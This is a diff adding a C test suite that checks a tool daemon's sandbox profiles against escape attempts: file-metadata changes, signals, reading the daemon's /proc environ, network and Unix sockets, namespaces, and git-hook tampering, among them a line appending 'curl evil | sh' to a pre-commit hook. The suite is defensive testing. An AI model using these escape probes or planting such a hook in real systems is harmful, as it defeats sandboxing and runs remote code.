@@ -1,0 +1,573 @@
+/*
+ * Escaping the sandbox profiles (doc/design.md §7, Sandbox; PROTOCOL.md
+ * §7.1) from inside real tools: every side door an attacker would try, from
+ * a read-only and a workspace-write tool, and the same probe under "none"
+ * to show that it sees its effect. Run in both supervision modes.
+ */
+#include <criterion/criterion.h>
+#include <arpa/inet.h>
+#include <fcntl.h>
+#include <jansson.h>
+#include <netinet/in.h>
+#include <poll.h>
+#include <signal.h>
+#include <stdio.h>
+#include <stdlib.h>
+#include <string.h>
+#include <sys/socket.h>
+#include <sys/stat.h>
+#include <sys/un.h>
+#include <sys/wait.h>
+#include <sys/xattr.h>
+#include <unistd.h>
+
+#include "e2e.h"
+
+#define SLOW 30000
+#define nitems(a) (sizeof(a) / sizeof((a)[0]))
+
+TestSuite(escape, .fini = e2e_fini);
+
+static const char *const confined[] = { "ro", "ww" };
+
+struct world {
+	struct daemon *d;
+	struct client *c;
+	json_t *sid;
+	char ws[128], home[128], root[128], sibling[128];
+};
+
+static json_t *
+tool(const char *name, const char *sandbox)
+{
+	char def[512];
+
+	snprintf(def, sizeof def, "{\"name\":\"%s\",\"command\":[\"/bin/sh\","
+	    "\"-c\",\"{script}\"],\"inputSchema\":{\"type\":\"object\"},"
+	    "\"sandbox\":%s}", name, sandbox);
+	return e2e_json(def);
+}
+
+/* Whether the daemon can enforce the profile (initialize says). */
+static bool
+can(struct client *c, const char *profile)
+{
+	json_t *caps = c_call(c, "initialize", json_object()), *p;
+	bool yes = false;
+	size_t i;
+
+	json_array_foreach(json_object_get(json_object_get(json_object_get(
+	    json_object_get(caps, "capabilities"), "enforcement"), "sandbox"),
+	    "profiles"), i, p)
+		yes = yes || strcmp(json_string_value(p), profile) == 0;
+	json_decref(caps);
+	return yes;
+}
+
+/*
+ * A daemon and a session whose cwd is a fresh workspace, HOME a directory
+ * beside it, with a tool per profile; skipped, after checking the refusal,
+ * where the kernel cannot enforce both profiles.
+ */
+static void
+world_start(struct world *w)
+{
+	json_t *tools = json_array(), *env;
+	char roots[256];
+
+	w->d = d_start(NULL);
+	w->c = c_open(w->d);
+	snprintf(w->ws, sizeof w->ws, "%s", d_path(w->d, "ws"));
+	snprintf(w->home, sizeof w->home, "%s", d_path(w->d, "home"));
+	snprintf(w->root, sizeof w->root, "%s", d_path(w->d, "root"));
+	snprintf(w->sibling, sizeof w->sibling, "%s", d_path(w->d, "sibling"));
+	cr_assert(mkdir(w->ws, 0755) == 0 && mkdir(w->home, 0755) == 0 &&
+	    mkdir(w->root, 0755) == 0 && mkdir(w->sibling, 0755) == 0);
+	snprintf(roots, sizeof roots, "{\"mode\":\"workspace-write\","
+	    "\"writableRoots\":[\"%s\"]}", w->root);
+	json_array_append_new(tools, tool("ro", "\"read-only\""));
+	json_array_append_new(tools, tool("ww", "\"workspace-write\""));
+	json_array_append_new(tools, tool("wwn", "{\"mode\":"
+	    "\"workspace-write\",\"network\":true}"));
+	json_array_append_new(tools, tool("wwr", roots));
+	json_array_append_new(tools, tool("none", "\"none\""));
+	env = json_pack("{s:s}", "HOME", w->home);
+	w->sid = c_session(w->c, json_pack("{s:o, s:s, s:o}", "tools", tools,
+	    "cwd", w->ws, "env", env));
+}
+
+static void
+world_stop(struct world *w)
+{
+	json_decref(w->sid);
+	c_close(w->c);
+	d_stop(w->d);
+}
+
+/* Run one tool alone; its tool_result params (new reference). */
+static json_t *
+run(struct world *w, const char *name, const char *script)
+{
+	json_t *input = json_pack("{s:s}", "script", script), *list, *r;
+	char *text = json_dumps(input, JSON_COMPACT);
+
+	json_decref(c_add(w->c, json_string_value(w->sid), "t", name, text));
+	free(text);
+	json_decref(input);
+	json_decref(c_call(w->c, "drain", json_pack("{s:O}", "sessionId",
+	    w->sid)));
+	list = e2e_filter(c_until(w->c, "turn_end", SLOW), "tool_result");
+	cr_assert_eq(json_array_size(list), 1);
+	r = json_incref(json_array_get(list, 0));
+	json_decref(list);
+	return r;
+}
+
+/* The probe ran to its end (never killed) and succeeded or not. */
+static bool
+probe(struct world *w, const char *name, const char *script)
+{
+	json_t *r = run(w, name, script);
+	const char *reason = e2e_reason(r);
+	bool ok;
+
+	cr_assert(strcmp(reason, "ok") == 0 || strcmp(reason, "exit") == 0,
+	    "%s: %s ended by %s: %s", name, script, reason, e2e_content(r));
+	ok = !e2e_is_error(r);
+	json_decref(r);
+	return ok;
+}
+
+/* Skip where the kernel cannot hold both profiles; check it refuses. */
+static bool
+world_skip(struct world *w)
+{
+	json_t *r;
+
+	if (can(w->c, "read-only") && can(w->c, "workspace-write"))
+		return false;
+	r = run(w, "ww", "true");
+	cr_assert_str_eq(e2e_reason(r), "spawn_failed");
+	json_decref(r);
+	world_stop(w);
+	cr_skip_test("this kernel cannot enforce both profiles");
+	return true;
+}
+
+static bool
+exists(const char *path)
+{
+	struct stat st;
+
+	return lstat(path, &st) == 0;
+}
+
+Test(escape, no_metadata_change_outside_the_writable_areas)
+{
+	struct world w;
+	char victim[160], script[1024];
+	struct stat before, after;
+	char value[8];
+	size_t i;
+
+	world_start(&w);
+	if (world_skip(&w))
+		return;
+	snprintf(victim, sizeof victim, "%s/victim", w.sibling);
+	cr_assert(close(creat(victim, 0644)) == 0);
+	for (i = 0; i < nitems(confined); i++) {
+		cr_assert(stat(victim, &before) == 0);
+		/* Each door separately: one that opens fails the test. */
+		snprintf(script, sizeof script, "chmod 600 %s", victim);
+		cr_assert(!probe(&w, confined[i], script), "%s", confined[i]);
+		snprintf(script, sizeof script, "touch -d 2001-01-01 %s",
+		    victim);
+		cr_assert(!probe(&w, confined[i], script), "%s", confined[i]);
+		snprintf(script, sizeof script, "ln %s %s.link", victim, victim);
+		cr_assert(!probe(&w, confined[i], script), "%s", confined[i]);
+		snprintf(script, sizeof script, "python3 -c \"import os; "
+		    "os.setxattr('%s', 'user.x', b'1')\"", victim);
+		cr_assert(!probe(&w, confined[i], script), "%s", confined[i]);
+		cr_assert(stat(victim, &after) == 0);
+		cr_assert_eq(after.st_mode, before.st_mode, "%s", confined[i]);
+		cr_assert_eq(after.st_mtime, before.st_mtime, "%s",
+		    confined[i]);
+		cr_assert(!exists(strcat(strcpy(script, victim), ".link")));
+		cr_assert(getxattr(victim, "user.x", value, sizeof value) ==
+		    -1);
+	}
+	/* The same doors under "none": each one opens. */
+	snprintf(script, sizeof script, "chmod 600 %s && touch -d 2001-01-01 "
+	    "%s && ln %s %s.link", victim, victim, victim, victim);
+	cr_assert(probe(&w, "none", script));
+	cr_assert(stat(victim, &after) == 0);
+	cr_assert_eq(after.st_mode & 0777, 0600);
+	cr_assert(exists(strcat(strcpy(script, victim), ".link")));
+	world_stop(&w);
+}
+
+/* The state letter of /proc/PID/stat ('T': stopped). */
+static char
+proc_state(pid_t pid)
+{
+	char path[64], *text, *p, state = '?';
+
+	snprintf(path, sizeof path, "/proc/%ld/stat", (long)pid);
+	if ((text = e2e_read_file(path, NULL)) != NULL &&
+	    (p = strrchr(text, ')')) != NULL)
+		state = p[2];
+	free(text);
+	return state;
+}
+
+Test(escape, no_signal_or_ptrace_outside_the_tool)
+{
+	struct world w;
+	char script[512];
+	json_t *stats;
+	long dpid;
+	pid_t victim;
+	size_t i;
+
+	world_start(&w);
+	if (world_skip(&w))
+		return;
+	stats = c_call(w.c, "stats", json_object());
+	dpid = (long)e2e_int(stats, "pid");
+	json_decref(stats);
+	if ((victim = fork()) == 0) {
+		execl("/bin/sleep", "sleep", "100", (char *)NULL);
+		_exit(127);
+	}
+	for (i = 0; i < nitems(confined); i++) {
+		snprintf(script, sizeof script, "kill -STOP %ld", (long)victim);
+		cr_assert(!probe(&w, confined[i], script));
+		cr_assert_neq(proc_state(victim), 'T');
+		/* The daemon itself: stopped, it would freeze every session. */
+		snprintf(script, sizeof script, "kill -STOP %ld", dpid);
+		cr_assert(!probe(&w, confined[i], script));
+		cr_assert_neq(proc_state((pid_t)dpid), 'T');
+		c_ping(w.c);
+		/* From a grandchild that left the tool's session. */
+		snprintf(script, sizeof script, "setsid sh -c 'kill -TERM %ld' "
+		    "& wait $!", (long)victim);
+		cr_assert(!probe(&w, confined[i], script));
+		snprintf(script, sizeof script, "cat /proc/%ld/environ >"
+		    "/dev/null", dpid);
+		cr_assert(!probe(&w, confined[i], script));
+	}
+	cr_assert_eq(waitpid(victim, NULL, WNOHANG), 0, "the victim died");
+	snprintf(script, sizeof script, "kill -STOP %ld", (long)victim);
+	cr_assert(probe(&w, "none", script));
+	cr_assert_eq(proc_state(victim), 'T');
+	kill(victim, SIGKILL);
+	waitpid(victim, NULL, 0);
+	world_stop(&w);
+}
+
+/* Whether a connection came to the listening socket within ms. */
+static bool
+accepted(int fd, int ms)
+{
+	struct pollfd p = { fd, POLLIN, 0 };
+	int c;
+
+	if (poll(&p, 1, ms) != 1 || (c = accept(fd, NULL, NULL)) == -1)
+		return false;
+	close(c);
+	return true;
+}
+
+Test(escape, no_network_unless_allowed)
+{
+	struct sockaddr_in a = { .sin_family = AF_INET };
+	struct sockaddr_un u = { .sun_family = AF_UNIX };
+	socklen_t len = sizeof a;
+	struct world w;
+	char script[512], name[64];
+	int tcp, udp, ux;
+	size_t i;
+
+	world_start(&w);
+	if (world_skip(&w))
+		return;
+	a.sin_addr.s_addr = htonl(INADDR_LOOPBACK);
+	tcp = socket(AF_INET, SOCK_STREAM, 0);
+	cr_assert(bind(tcp, (struct sockaddr *)&a, sizeof a) == 0 &&
+	    listen(tcp, 8) == 0 && getsockname(tcp, (struct sockaddr *)&a,
+	    &len) == 0);
+	udp = socket(AF_INET, SOCK_DGRAM, 0);
+	snprintf(name, sizeof name, "stexec-escape-%ld", (long)getpid());
+	memcpy(u.sun_path + 1, name, strlen(name));
+	ux = socket(AF_UNIX, SOCK_STREAM, 0);
+	cr_assert(bind(ux, (struct sockaddr *)&u, (socklen_t)(offsetof(
+	    struct sockaddr_un, sun_path) + 1 + strlen(name))) == 0 &&
+	    listen(ux, 8) == 0);
+
+	for (i = 0; i < nitems(confined); i++) {
+		snprintf(script, sizeof script, "python3 -c \"import socket; "
+		    "socket.create_connection(('127.0.0.1', %d), 2)\"",
+		    ntohs(a.sin_port));
+		cr_assert(!probe(&w, confined[i], script));
+		cr_assert(!accepted(tcp, 0), "%s reached TCP", confined[i]);
+		cr_assert(!probe(&w, confined[i], "python3 -c \"import socket; "
+		    "socket.socket(socket.AF_INET, socket.SOCK_DGRAM)\""));
+		snprintf(script, sizeof script, "python3 -c \"import socket; "
+		    "socket.socket(socket.AF_UNIX).connect('\\0%s')\"", name);
+		cr_assert(!probe(&w, confined[i], script));
+		cr_assert(!accepted(ux, 0), "%s reached the abstract socket",
+		    confined[i]);
+	}
+	/* workspace-write with the network, and none, reach TCP and UDP. */
+	snprintf(script, sizeof script, "python3 -c \"import socket; "
+	    "socket.create_connection(('127.0.0.1', %d), 2); "
+	    "socket.socket(socket.AF_INET, socket.SOCK_DGRAM)\"",
+	    ntohs(a.sin_port));
+	cr_assert(probe(&w, "wwn", script));
+	cr_assert(accepted(tcp, 2000));
+	cr_assert(probe(&w, "none", script));
+	cr_assert(accepted(tcp, 2000));
+	/* But not Unix sockets, even with the network. */
+	snprintf(script, sizeof script, "python3 -c \"import socket; "
+	    "socket.socket(socket.AF_UNIX).connect('\\0%s')\"", name);
+	cr_assert(!probe(&w, "wwn", script));
+	cr_assert(probe(&w, "none", script));
+	cr_assert(accepted(ux, 2000));
+	close(tcp);
+	close(udp);
+	close(ux);
+	world_stop(&w);
+}
+
+Test(escape, a_sandboxed_tool_cannot_reach_its_own_daemon)
+{
+	const char *cli = getenv("STEXEC_CLI");
+	struct world w;
+	char script[1024], marker[160];
+	json_t *stats;
+	long dpid;
+	size_t i, r;
+
+	cr_assert(cli != NULL, "STEXEC_CLI is not set");
+	world_start(&w);
+	if (world_skip(&w))
+		return;
+	stats = c_call(w.c, "stats", json_object());
+	dpid = (long)e2e_int(stats, "pid");
+	json_decref(stats);
+	snprintf(marker, sizeof marker, "%s/marker", w.sibling);
+	for (i = 0; i < nitems(confined); i++) {
+		/* Every way to name the socket: its path, through the
+		 * daemon's root, through a symlink the tool makes. */
+		for (r = 0; r < 3; r++) {
+			char sock[256];
+
+			if (r == 0)
+				snprintf(sock, sizeof sock, "%s", w.d->sock);
+			else if (r == 1)
+				snprintf(sock, sizeof sock, "/proc/%ld/root%s",
+				    dpid, w.d->sock);
+			else
+				snprintf(sock, sizeof sock, "$TMPDIR/link");
+			snprintf(script, sizeof script, "ln -s %s $TMPDIR/link; "
+			    "STEXEC_SOCKET=%s %s run bash '{\"command\":\"touch "
+			    "%s\"}'", w.d->sock, sock, cli, marker);
+			cr_assert(!probe(&w, confined[i], script), "%s via %s",
+			    confined[i], sock);
+			cr_assert(!exists(marker), "%s ran a tool through %s",
+			    confined[i], sock);
+		}
+	}
+	snprintf(script, sizeof script, "%s --socket %s run bash "
+	    "'{\"command\":\"touch %s\"}'", cli, w.d->sock, marker);
+	cr_assert(probe(&w, "none", script));
+	cr_assert(exists(marker));
+	world_stop(&w);
+}
+
+/*
+ * The second wall: were the filter ever to let a socket through, the
+ * daemon itself refuses a peer that belongs to a sandboxed tool. A process
+ * that carries a running read-only tool's token stands in for one.
+ */
+Test(escape, the_daemon_refuses_a_peer_of_a_sandboxed_tool)
+{
+	const char *cli = getenv("STEXEC_CLI");
+	struct world w;
+	json_t *n, *data;
+	char cmd[1024];
+	const char *token;
+	int status;
+
+	cr_assert(cli != NULL);
+	world_start(&w);
+	if (world_skip(&w))
+		return;
+	json_decref(c_call(w.c, "subscribe", json_pack("{s:O}", "sessionId",
+	    w.sid)));
+	json_decref(c_add(w.c, json_string_value(w.sid), "t", "ro",
+	    "{\"script\":\"printf '{\\\"progress\\\":\\\"%s\\\"}\\\\n' "
+	    "\\\"$STEXEC_PROC_TOKEN\\\" >&3; sleep 30\"}"));
+	n = c_wait(w.c, "progress", SLOW);
+	data = json_object_get(json_object_get(n, "params"), "data");
+	token = json_string_value(data);
+	cr_assert(token != NULL && *token != '\0');
+	snprintf(cmd, sizeof cmd, "STEXEC_PROC_TOKEN=%s %s --socket %s ping "
+	    "2>%s/refusal", token, cli, w.d->sock, w.d->dir);
+	status = system(cmd);
+	cr_assert(WIFEXITED(status) && WEXITSTATUS(status) != 0);
+	snprintf(cmd, sizeof cmd, "%s/refusal", w.d->dir);
+	{
+		char *text = e2e_read_file(cmd, NULL);
+
+		cr_assert(text != NULL && strstr(text, "sandboxed tool") !=
+		    NULL, "%s", text != NULL ? text : "(nothing)");
+		free(text);
+	}
+	json_decref(n);
+	/* Without the token the same client is served. */
+	snprintf(cmd, sizeof cmd, "%s --socket %s ping >/dev/null", cli,
+	    w.d->sock);
+	cr_assert_eq(system(cmd), 0);
+	json_decref(c_call(w.c, "abort", json_pack("{s:O, s:s}", "sessionId",
+	    w.sid, "reason", "cancel")));
+	json_decref(c_call(w.c, "drain", json_pack("{s:O}", "sessionId",
+	    w.sid)));
+	json_decref(c_until(w.c, "turn_end", SLOW));
+	world_stop(&w);
+}
+
+Test(escape, ipc_keys_namespaces_and_mounts_are_refused_not_killed)
+{
+	static const char *const doors[] = {
+		"ipcmk -M 1024",
+		"unshare -r true",
+		"unshare -m true",
+		"mount -t tmpfs none $TMPDIR",
+		"python3 -c \"import ctypes, os, sys; l = ctypes.CDLL(None, "
+		    "use_errno=True); r = l.syscall(248, b'user', b'k', b'v', 1, "
+		    "-3); sys.exit(r == -1)\"",
+	};
+	struct world w;
+	size_t i, j;
+
+	world_start(&w);
+	if (world_skip(&w))
+		return;
+	for (i = 0; i < nitems(confined); i++)
+		for (j = 0; j < nitems(doors); j++)
+			cr_assert(!probe(&w, confined[i], doors[j]), "%s: %s",
+			    confined[i], doors[j]);
+	/* As a control: IPC works unconfined (the key probe is x86_64's). */
+	cr_assert(probe(&w, "none", "id=$(ipcmk -M 1024 | grep -o '[0-9]*$') "
+	    "&& ipcrm -m $id"));
+	world_stop(&w);
+}
+
+Test(escape, workspace_write_writes_the_workspace_and_nothing_else)
+{
+	struct world w;
+	char script[1024], path[256];
+
+	world_start(&w);
+	if (world_skip(&w))
+		return;
+	/* A fresh repository in the cwd: init, add, commit. */
+	cr_assert(probe(&w, "ww", "git init -q . && echo hi > a.txt && "
+	    "git add a.txt && git -c user.email=a@b -c user.name=n commit -q "
+	    "-m first && mkdir -p sub && printf 'all:\\n\\ttouch built\\n' > "
+	    "Makefile && { ! command -v make >/dev/null || make -s; }"));
+	snprintf(path, sizeof path, "%s/.git/HEAD", w.ws);
+	cr_assert(exists(path));
+	/* $HOME and a sibling directory are not the workspace. */
+	cr_assert(!probe(&w, "ww", "echo x > $HOME/probe"));
+	snprintf(path, sizeof path, "%s/probe", w.home);
+	cr_assert(!exists(path));
+	snprintf(script, sizeof script, "echo x > %s/probe", w.sibling);
+	cr_assert(!probe(&w, "ww", script));
+	/* A writable root is writable, for the tool that names it. */
+	snprintf(script, sizeof script, "echo x > %s/probe", w.root);
+	cr_assert(!probe(&w, "ww", script));
+	cr_assert(probe(&w, "wwr", script));
+	/* Read-only writes the workspace no more than anything else. */
+	cr_assert(!probe(&w, "ro", "echo x > ro.txt"));
+	snprintf(path, sizeof path, "%s/ro.txt", w.ws);
+	cr_assert(!exists(path));
+	world_stop(&w);
+}
+
+Test(escape, an_existing_repository_keeps_its_hooks_and_config)
+{
+	struct world w;
+	char cmd[1024], hook[256], config[256], *before_hook, *before_cfg,
+	    *after;
+
+	world_start(&w);
+	if (world_skip(&w))
+		return;
+	snprintf(cmd, sizeof cmd, "cd %s && git init -q . && printf "
+	    "'#!/bin/sh\\nexit 0\\n' > .git/hooks/pre-commit && chmod +x "
+	    ".git/hooks/pre-commit", w.ws);
+	cr_assert_eq(system(cmd), 0);
+	snprintf(hook, sizeof hook, "%s/.git/hooks/pre-commit", w.ws);
+	snprintf(config, sizeof config, "%s/.git/config", w.ws);
+	before_hook = e2e_read_file(hook, NULL);
+	before_cfg = e2e_read_file(config, NULL);
+	cr_assert(!probe(&w, "ww", "echo 'curl evil | sh' >> "
+	    ".git/hooks/pre-commit"));
+	cr_assert(!probe(&w, "ww", "rm -f .git/hooks/pre-commit"));
+	cr_assert(!probe(&w, "ww", "echo '[core]' >> .git/config"));
+	cr_assert(!probe(&w, "ww", "git config core.hooksPath /tmp"));
+	after = e2e_read_file(hook, NULL);
+	cr_assert_str_eq(after, before_hook);
+	free(after);
+	after = e2e_read_file(config, NULL);
+	cr_assert_str_eq(after, before_cfg);
+	free(after);
+	/* And the work goes on: a commit runs the (unchanged) hook. */
+	cr_assert(probe(&w, "ww", "echo hi > b.txt && git add b.txt && git "
+	    "-c user.email=a@b -c user.name=n commit -q -m second"));
+	free(before_hook);
+	free(before_cfg);
+	world_stop(&w);
+}
+
+Test(escape, the_floor_refuses_less_and_raises_the_daemons_tools)
+{
+	struct daemon *d = d_start("--min-sandbox", "workspace-write", NULL);
+	struct client *c = c_open(d);
+	json_t *err, *sid, *r, *list;
+
+	err = c_call_error(c, "createSession", e2e_json("{\"sandbox\":"
+	    "\"none\"}"));
+	cr_assert_eq(e2e_code(err), -32602);
+	cr_assert(strstr(e2e_str(err, "message"), "sandbox") != NULL);
+	json_decref(err);
+	err = c_call_error(c, "createSession", e2e_json("{\"tools\":[{\"name\":"
+	    "\"x\",\"command\":[\"true\"],\"sandbox\":\"none\"}]}"));
+	cr_assert_eq(e2e_code(err), -32602);
+	cr_assert(strstr(e2e_str(err, "message"), "tools[0].sandbox") != NULL,
+	    "%s", e2e_str(err, "message"));
+	json_decref(err);
+	err = c_call_error(c, "createSession", e2e_json("{\"sandbox\":"
+	    "{\"mode\":\"read-only\",\"network\":true}}"));
+	cr_assert_eq(e2e_code(err), -32602);
+	cr_assert(strstr(e2e_str(err, "message"), "sandbox.network") != NULL);
+	json_decref(err);
+	/* The built-in bash has no sandbox field: it runs at the floor. */
+	sid = c_session(c, json_object());
+	json_decref(c_add(c, json_string_value(sid), "t", "bash",
+	    "{\"command\":\"touch /probe-$$ 2>&1; echo $TMPDIR\"}"));
+	json_decref(c_call(c, "drain", json_pack("{s:O}", "sessionId", sid)));
+	list = e2e_filter(c_until(c, "turn_end", SLOW), "tool_result");
+	r = json_array_get(list, 0);
+	if (can(c, "workspace-write"))
+		cr_assert(strstr(e2e_content(r), "Read-only file system") !=
+		    NULL, "%s", e2e_content(r));
+	else
+		cr_assert_str_eq(e2e_reason(r), "spawn_failed");
+	json_decref(list);
+	json_decref(sid);
+	c_close(c);
+	d_stop(d);
+}
